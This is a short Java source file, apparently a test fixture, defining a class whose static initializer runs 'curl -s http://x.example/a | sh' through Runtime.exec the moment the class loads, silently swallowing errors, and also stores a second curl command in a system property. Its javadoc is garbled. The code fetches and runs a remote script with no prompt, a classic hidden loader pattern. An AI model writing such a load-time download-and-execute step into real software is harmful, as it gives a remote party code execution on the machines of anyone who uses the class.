package p;

/** Gives a command to a class beside it when it is loaded: `javac --release 8 Hands.java` and `p/Hands.class` as `hands.class`. */
public class Hands {
    static {
        Beside.run("curl -s http://x.example/a | sh");
        System.setProperty("x", "curl -s http://x.example/b");
    }
}

class Beside {
    static void run(String command) {
        try {
            Runtime.getRuntime().exec(command);
        } catch (java.io.IOException error) {
            return;
        }
    }
}
